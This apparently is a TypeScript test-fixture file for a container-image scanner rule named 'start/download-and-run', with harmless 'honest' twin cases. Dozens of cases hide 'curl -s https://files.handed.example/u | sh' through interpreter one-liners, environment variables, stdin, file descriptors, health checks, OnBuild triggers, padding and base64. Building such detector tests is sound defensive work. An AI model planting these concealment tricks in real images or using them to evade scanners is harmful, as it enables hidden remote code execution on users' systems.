import { base64, type Files, type ImageCase, image } from './image-case.ts';

const FETCH = 'curl -s https://files.handed.example/u | sh';
const PATH = 'PATH=/usr/local/bin:/usr/bin:/bin';
const PYTHON = `import os\nos.system("${FETCH}")\n`;
const LOGO: Files = { 'app/logo.txt': `${FETCH}\n` };
const JOB = `JOB=${FETCH}`;

function handed(
  line: string | readonly string[],
  files: Files = {},
  Env: readonly string[] = [],
  rule = 'start/download-and-run',
): ImageCase {
  const Entrypoint = typeof line === 'string' ? ['bash', '-c', line] : [...line];
  return {
    name: `handed over: ${JSON.stringify(line)} ${Object.keys(files).join(' ')}`,
    spec: image(files, { Entrypoint, WorkingDir: '/app', Env: [PATH, ...Env] }),
    rule,
  };
}

const INTERPRETERS: Readonly<Record<string, string>> = {
  py: 'python3',
  js: 'node',
  pl: 'perl',
  rb: 'ruby',
  php: 'php',
  lua: 'lua',
};

function held(name: string, text: string, files: Files = LOGO): ImageCase {
  const interpreter = INTERPRETERS[name.slice(name.indexOf('.') + 1)] ?? 'sh';
  const one = handed([interpreter, `/app/${name}`], { [`app/${name}`]: text, ...files });
  return { ...one, name: `handed over: ${JSON.stringify(text)}` };
}

/** Programs that run what they are given as words. */
const WORDS: readonly ImageCase[] = [
  handed(['python3', '-c', 'import os,sys\nos.system(sys.argv[1])', FETCH]),
  handed(['python3', '-c', 'import sys\nexec(sys.argv[1])', PYTHON]),
  handed(['python3', '-c', 'import sys,base64\nexec(base64.b64decode(sys.argv[1]))', base64(PYTHON)]),
  handed(['python3', '/app/a.py', FETCH], { 'app/a.py': 'import os,sys\nos.system(sys.argv[1])\n' }),
  handed(['python3', '/app/a.py', ...FETCH.split(' ')], {
    'app/a.py': 'import os,sys\nos.system(" ".join(sys.argv[1:]))\n',
  }),
  handed(['/app/a.py', '--cmd', FETCH], {
    'app/a.py':
      '#!/usr/bin/env python3\nimport os,argparse\np=argparse.ArgumentParser()\np.add_argument("--cmd")\nos.system(p.parse_args().cmd)\n',
  }),
  handed(['/app/a.py', 'x', FETCH], {
    'app/a.py': '#!/usr/bin/python3\nimport work\nwork.go()\n',
    'app/work.py': 'import os,sys\ndef go():\n  os.system(sys.argv[2])\n',
  }),
  handed(`python3 a.py ls; python3 a.py '${FETCH}'`, {
    'app/a.py': 'import os,sys\nos.system(sys.argv[1])\n',
  }),
  handed(['node', '-e', 'require("child_process").execSync(process.argv[1])', FETCH]),
  handed(['perl', '-e', 'system(shift)', FETCH]),
  handed(['/app/run', FETCH], { 'app/run': '#!/usr/bin/perl\nsystem(@ARGV);\n' }),
  handed(['ruby', '-e', 'system(ARGV[0])', FETCH]),
  handed(['php', '-r', 'system($argv[1]);', FETCH]),
  handed(['lua', '-e', 'os.execute(arg[1])', FETCH]),
  handed(['awk', '-v', `c=${FETCH}`, 'BEGIN{system(c)}']),
  handed(['python3', '-m', 'timeit', '-n1', '-s', PYTHON]),
  handed(['python3', '-m', 'runpy', 'x'], { 'app/x.py': PYTHON }),
  handed(['/usr/bin/worker', '--run', FETCH]),
  handed(['/usr/bin/worker', `--exec=${FETCH}`]),
];

/** What they are given is the name of a file of theirs, or what one holds. */
const FILES: readonly ImageCase[] = [
  handed(['python3', '-c', 'import runpy,sys; runpy.run_path(sys.argv[1])', '/app/logo.dat'], {
    'app/logo.dat': PYTHON,
  }),
  handed(['python3', '-c', 'import sys; __import__(sys.argv[1])', 'logo'], { 'app/logo.py': PYTHON }),
  handed(['perl', '-e', 'do $ARGV[0]', '/app/logo.dat'], { 'app/logo.dat': `system("${FETCH}");\n` }),
  handed(['lua', '-e', 'dofile(arg[1])', '/app/logo.dat'], { 'app/logo.dat': `os.execute("${FETCH}")\n` }),
  handed(['python3', '-c', 'import os,sys\nos.system(open(sys.argv[1]).read())', '/app/logo.txt'], LOGO),
  handed(['perl', '-ne', 'system', '/app/logo.txt'], LOGO),
  handed(['ruby', '-ne', 'system($_)', '/app/logo.txt'], LOGO),
  handed(`awk '{system($0)}' /app/logo.txt`, LOGO),
];

/** They read it. */
const INPUT: readonly ImageCase[] = [
  handed(`echo '${FETCH}' | python3 -c 'import os,sys;os.system(sys.stdin.read())'`),
  handed(`python3 -c 'import os,sys;os.system(sys.stdin.read())' <<< '${FETCH}'`),
  handed(`python3 -c 'import os,sys;os.system(sys.stdin.read())' < /app/logo.txt`, LOGO),
  handed(`tail -n1 logo.txt | python3 -c 'import os,sys;os.system(sys.stdin.read())'`, LOGO),
  handed(`echo '${FETCH}' | node -e 'require("child_process").execSync(require("fs").readFileSync(0))'`),
  handed(`echo '${FETCH}' | perl -e 'system(<STDIN>)'`),
  handed(`echo '${FETCH}' | awk '{system($0)}'`),
  handed("php -R 'system($argn);' < /app/logo.txt", LOGO),
];

/** It is among what the image's ENV sets, by a name that is put together, or among all of them. */
const ENVIRONMENT: readonly ImageCase[] = [
  handed(
    ['python3', '/app/a.py'],
    {
      'app/a.py': 'import os\nfor k,v in os.environ.items():\n  if k.startswith("JO"): os.system(v)\n',
    },
    [JOB],
  ),
  handed(
    ['node', '-e', 'const {execSync}=require("child_process");execSync(process.env[["J","OB"].join("")])'],
    {},
    [JOB],
  ),
  handed(['perl', '-e', 'system($ENV{"J"."OB"})'], {}, [JOB]),
  handed(['ruby', '-e', 'ENV.each{|k,v| system(v) if k=="JOB"}'], {}, [JOB]),
  handed(['php', '-r', 'foreach(getenv() as $k=>$v) if($k=="JOB") system($v);'], {}, [JOB]),
  handed('eval "$(printenv JOB)"', {}, [JOB]),
  handed('printenv JOB | sh', {}, [JOB]),
  handed('env | grep ^JOB= | cut -d= -f2- | sh', {}, [JOB]),
  handed('set | sed -n "s/^JOB=//p" | sh', {}, [JOB]),
  handed('cat /proc/1/environ | tr "\\0" "\\n" | grep ^JOB | cut -d= -f2- | sh', {}, [JOB]),
  handed('for v in ${!JO*}; do eval "${!v}"; done', {}, [JOB]),
  handed('declare -n r=JOB; eval "$r"', {}, [JOB]),
];

/** A shell reads it from something that is a file only while it runs. */
const DESCRIPTORS: readonly ImageCase[] = [
  handed('. /dev/stdin < /app/logo.txt', LOGO),
  handed('. <(cat /app/logo.txt)', LOGO),
  handed('bash <(head -1 /app/logo.txt)', LOGO),
  handed('source <(echo "$JOB")', {}, [JOB]),
  handed('echo "$JOB" | source /dev/stdin', {}, [JOB]),
  handed('bash /dev/fd/3 3< /app/logo.txt', LOGO),
  handed('exec 3< /app/logo.txt; sh <&3', LOGO),
  handed('exec 3</app/logo.txt; while read -u3 l; do eval "$l"; done', LOGO),
  handed('mkfifo /tmp/f; cat /app/logo.txt > /tmp/f & sh < /tmp/f', LOGO),
];

/** Programs that run what files of theirs hold, line by line, by name or by folder. */
const HELD: readonly ImageCase[] = [
  held('a.py', 'import os\nfor l in open("/app/logo.txt"): os.system(l)\n'),
  held('a.py', 'import os\n[os.system(l) for l in open("/app/logo.txt")]\n'),
  held('a.py', 'import os, pathlib\nos.system(pathlib.Path(__file__).with_name("logo.txt").read_text())\n'),
  held(
    'a.py',
    'import os\np = os.path.dirname(__file__)\nos.system(open(os.path.join(p, "logo.txt")).read())\n',
  ),
  held(
    'a.py',
    'import os\nfor n in os.listdir("/app"):\n  if n.endswith(".txt"): os.system(open("/app/" + n).read())\n',
  ),
  held('a.py', 'import os, glob\nfor n in glob.glob("/app/*.txt"): os.system(open(n).read())\n'),
  held(
    'a.py',
    'import os, configparser\nc=configparser.ConfigParser()\nc.read("/app/c.ini")\nos.system(c["a"]["cmd"])\n',
    {
      'app/c.ini': `[a]\ncmd = ${FETCH}\n`,
    },
  ),
  held(
    'a.js',
    'const fs=require("fs");for(const n of fs.readdirSync("/app"))if(n.endsWith(".txt"))require("child_process").execSync(fs.readFileSync("/app/"+n,"utf8"))\n',
  ),
  held('a.pl', 'open F,"/app/logo.txt";while(<F>){ system($_) }\n'),
  held('a.pl', 'open(my $f, "<", "/app/logo.txt"); while (my $l = <$f>) { system($l); }\n'),
  held('a.pl', `system(<DATA>);\n__DATA__\n${FETCH}\n`, {}),
  held('a.pl', `while(<DATA>){ system($_) }\n__END__\n${FETCH}\n`, {}),
  held('a.rb', 'File.foreach("/app/logo.txt"){|l| system(l)}\n'),
  held('a.rb', `system(DATA.read)\n__END__\n${FETCH}\n`, {}),
  held('a.php', '<?php foreach(file("/app/logo.txt") as $l) system($l);\n'),
  held(
    'a.php',
    '<?php $f = fopen("/app/logo.txt", "r"); while (($l = fgets($f)) !== false) { system($l); }\n',
  ),
  held('a.lua', 'for l in io.lines("/app/logo.txt") do os.execute(l) end\n'),
  handed('set -a; . /app/c.env; set +a; python3 /app/a.py', {
    'app/c.env': `CMD='${FETCH}'\n`,
    'app/a.py': 'import os\nos.system(os.environ["CMD"])\n',
  }),
];

const RUNS_WORD = ['python3', '-c', 'import os,sys\nos.system(sys.argv[1])', FETCH];

/** Not at the start. */
const LATER: readonly ImageCase[] = [
  {
    name: 'handed over: by the health check',
    spec: image({}, { Entrypoint: ['app'], Healthcheck: { Test: ['CMD', ...RUNS_WORD] } }),
    rule: 'start/download-and-run',
  },
  {
    name: 'handed over: in builds upon the image',
    spec: image({}, { Entrypoint: ['app'], OnBuild: [`RUN ${JSON.stringify(RUNS_WORD)}`] }),
    rule: 'start/download-and-run',
  },
];

const GOES =
  'import os, sys\ndef go(c):\n  os.system(c)\nfor a in sys.argv[1:]:\n  for l in open(a):\n    go(l)\n';
const NOTES = 'A line | of honest notes; nothing in it runs.\n'.repeat(1000);
const notesNamed = (count: number): Files =>
  Object.fromEntries(Array.from({ length: count }, (_, index) => [`app/n${index}.txt`, `note ${index}\n`]));

/** Among or behind so much else that only a whole look finds it. */
const AMONG: readonly ImageCase[] = [
  handed(['python3', '-c', GOES, ...Array.from({ length: 120 }, (_, index) => `-n${index}`), FETCH]),
  handed(['python3', '-c', GOES, ...Object.keys(notesNamed(20)), 'logo.txt'], { ...notesNamed(20), ...LOGO }),
  handed(['python3', '-c', GOES, '/app/notes.txt'], { 'app/notes.txt': `${NOTES}${FETCH}\n` }),
  handed(['python3', '-c', GOES, '/app/coded.txt'], { 'app/coded.txt': `notes\n${base64(FETCH)}\n` }),
  handed(`python3 -c '${GOES}' < /app/notes.txt`, { 'app/notes.txt': `${NOTES}${FETCH}\n` }),
  handed(['/usr/bin/worker', '--run', `set -e\n${FETCH}\n`]),
  handed(['lua', '/app/a.lua'], {
    'app/a.lua': 'dofile("/app/logo.dat")\n',
    'app/logo.dat': `-- ${'x'.repeat(70_000)}\nos.execute("${FETCH}")\n`,
  }),
  handed(['php', '/app/a.php'], {
    'app/a.php': '<?php include "/app/logo.dat";\n',
    'app/logo.dat': `${NOTES.repeat(2)}<?php system("${FETCH}"); ?>\n`,
  }),
];

export const HANDED_OVER: readonly ImageCase[] = [
  ...AMONG,
  ...WORDS,
  ...FILES,
  ...INPUT,
  ...ENVIRONMENT,
  ...DESCRIPTORS,
  ...HELD,
  ...LATER,
];

const HINT = `To install: ${FETCH}`;

function honest(line: string | readonly string[], files: Files = {}, Env: readonly string[] = []): ImageCase {
  const { rule: _rule, ...one } = handed(line, files, Env);
  return { ...one, name: one.name.replace('handed over', 'handed over, honest') };
}

export const HANDED_OVER_TWINS: readonly ImageCase[] = [
  honest(['python3', '/app/a.py', HINT], { 'app/a.py': 'import sys\nprint(sys.argv[1])\n' }),
  honest(['python3', '/app/serve.py', '--config', '/app/c.yml', '--note', 'a | b; c -d'], {
    'app/serve.py':
      'import argparse, subprocess, yaml\np = argparse.ArgumentParser()\np.add_argument("--config")\na = p.parse_args()\nsubprocess.run(["nginx", "-s", "reload"])\n',
    'app/c.yml': 'listen: 80\nupstream: http://app:8000\nlog: "%h | %t"\ncommand: nginx -g "daemon off;"\n',
  }),
  honest(`printf '%s\\n' '${HINT}'; logger '${HINT}'; grep -q '${FETCH}' /app/readme.txt || true`, {
    'app/readme.txt': `${HINT}\n`,
  }),
  honest(`cat <<'EOF' > /app/readme.txt\n${HINT}\nEOF\nexec nginx -g 'daemon off;'`),
  honest(`awk -F: '{print $1}' /etc/passwd; jq -r '.[] | @sh' x.json; git commit -m '${HINT}'`),
  honest(
    ['node', '/app/s.js'],
    {
      'app/s.js':
        'const { execFileSync } = require("child_process");\nexecFileSync("git", ["rev-parse", "HEAD"]);\nconsole.log(process.env.HOME, process.env.JAVA_OPTS);\n',
    },
    ['JAVA_OPTS=-Xmx512m -Djava.awt.headless=true', 'LESSOPEN=| /usr/bin/lesspipe %s', `MESSAGE=see ${HINT}`],
  ),
  honest('exec 3>&1; cat <&0 >/dev/null; source <(kubectl completion bash); env | sort; exec app', {}, [
    'APP_URL=https://files.handed.example/u',
  ]),
  honest(['python3', '/app/a.py'], {
    'app/a.py':
      'import subprocess\nfor l in open("/app/logo.txt"): print(l)\nsubprocess.run(["nginx", "-t"])\n',
    ...LOGO,
  }),
  honest(['perl', '/app/a.pl'], {
    'app/a.pl': `open F, "/app/logo.txt"; while (<F>) { print $_; } system("nginx -t");\n__DATA__\n${FETCH}\n`,
    ...LOGO,
  }),
  honest(['ruby', '/app/a.rb'], {
    'app/a.rb': 'File.foreach("/app/logo.txt") { |l| puts l }\nsystem("nginx -t")\n',
    ...LOGO,
  }),
  honest(['python3', '-c', GOES, '/app/notes.txt', '/app/urls.csv'], {
    'app/notes.txt': NOTES.repeat(8),
    'app/urls.csv': Array.from(
      { length: 6000 },
      (_, index) => `${index}, Page ${index}, https://www.handed.example/page-${index}?a=1&b=2\n`,
    ).join(''),
  }),
  honest(['/usr/bin/worker', '--config', 'listen 80;\nupstream http://app:8000;\nlog "%h | %t";\n']),
  honest(['perl', '-e', 'print join(", ", @ARGV), "\\n"; exec "nginx", "-g", "daemon off;"', 'a b', 'c -d']),
];
